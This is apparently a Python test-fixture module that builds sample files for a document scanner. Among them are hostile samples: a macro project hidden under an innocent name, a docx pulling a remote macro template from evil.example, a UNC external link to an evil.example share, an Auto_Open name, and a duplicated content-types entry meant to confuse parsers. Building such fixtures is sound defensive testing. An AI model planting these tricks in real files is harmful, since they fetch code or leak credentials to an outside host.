"""Small files of each kind, built in memory."""

import io
import zipfile

from openpyxl import Workbook

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
HTML = b"<!doctype html><script>alert(1)</script>"
EXE = b"MZ\x90\x00" + b"\x00" * 60

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
)


def xlsx() -> bytes:
    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def docx() -> bytes:
    content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _zip(
        {
            "[Content_Types].xml": _CT.format(part="word/document.xml", content_type=content_type),
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body/></w:document>',
        }
    )


def xlsm() -> bytes:
    content_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return _zip(
        {
            "[Content_Types].xml": _CT.format(part="xl/workbook.xml", content_type=content_type),
            "xl/workbook.xml": "<workbook/>",
        }
    )


def plain_zip() -> bytes:
    return _zip({"readme.txt": "hello"})


def with_parts(content: bytes, parts: dict[str, str], content_types: str = "") -> bytes:
    """Return the Office file ``content`` with ``parts`` added and ``content_types`` declared."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types.encode() + b"</Types>")
            archive.writestr(info, data)
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _relationship(kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return _RELS.format(f'<Relationship Id="rId9" Type="{kind}" Target="{target}"{mode}/>')


def xlsx_with_macros_under_an_innocent_name() -> bytes:
    return with_parts(
        xlsx(),
        {"xl/code.bin": "VBA", "xl/_rels/extra.rels": _relationship(_VBA, "code.bin")},
        '<Override PartName="/xl/code.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def xlsx_with_an_external_link() -> bytes:
    rels = _relationship(_OFFICE + "externalLinkPath", "file://\\\\evil.example\\share\\x.xlsx", external=True)
    return with_parts(xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def docx_with_a_remote_template() -> bytes:
    rels = _relationship(_OFFICE + "attachedTemplate", "http://evil.example/t.dotm", external=True)
    return with_parts(docx(), {"word/_rels/settings.xml.rels": rels, "word/settings.xml": "<w:settings/>"})


def docx_with_a_web_link() -> bytes:
    rels = _relationship(_OFFICE + "hyperlink", "https://www.metro.tokyo.lg.jp/", external=True)
    return with_parts(docx(), {"word/_rels/document.xml.rels": rels})


# -- Hostile samples: active content (issue 18 item 13) -----------------------------------------


def xlsx_with_formula(formula: str) -> bytes:
    """Return a workbook whose A1 holds ``=formula`` (openpyxl writes it as a formula cell)."""
    workbook = Workbook()
    workbook.active["A1"] = f"={formula}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_defined_name(text: str) -> bytes:
    from openpyxl.workbook.defined_name import DefinedName

    workbook = Workbook()
    workbook.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text=text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_with_body(body: str) -> bytes:
    """Return a document whose body is ``body`` (WordprocessingML, ``w:`` bound)."""
    content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _zip(
        {
            "[Content_Types].xml": _CT.format(part="word/document.xml", content_type=content_type),
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p>{body}</w:p></w:body></w:document>',
        }
    )


def complex_field(*instruction_pieces: str, inner: str = "") -> str:
    """Return a field as Word writes it: begin, the instruction split over runs (and ``inner``
    fields nested in it), separate, result, end."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction_pieces
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + pieces
        + inner
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str) -> str:
    from xml.sax.saxutils import quoteattr

    return f"<w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>結果</w:t></w:r></w:fldSimple>"


def zip_with_two_content_types() -> bytes:
    """Return a docx with a second ``[Content_Types].xml`` (Python reads the last, Office may read the first)."""
    import warnings

    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    document = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: that is the point
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", _CT.format(part="word/document.xml", content_type=macro))
            archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}"><w:body/></w:document>')
            archive.writestr("[Content_Types].xml", _CT.format(part="word/document.xml", content_type=document))
    return buffer.getvalue()


def pdf(*objects: bytes) -> bytes:
    """Return a small PDF with the given object bodies numbered from 1 (no xref: readers rebuild it)."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def pdf_stream(dictionary: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(content), content)


def pdf_with_packed_objects(packed: bytes) -> bytes:
    """Return a PDF whose object 4 sits in a Flate-compressed object stream (PDF 1.5+), as many writers do."""
    import zlib

    header = b"4 0 "
    data = header + packed
    stream = pdf_stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), zlib.compress(data))
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", stream)


def xlsx_with_a_data_connection() -> bytes:
    content_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    return with_parts(
        xlsx(),
        {"xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'},
        f'<Override PartName="/xl/connections.xml" ContentType="{content_type}"/>',
    )
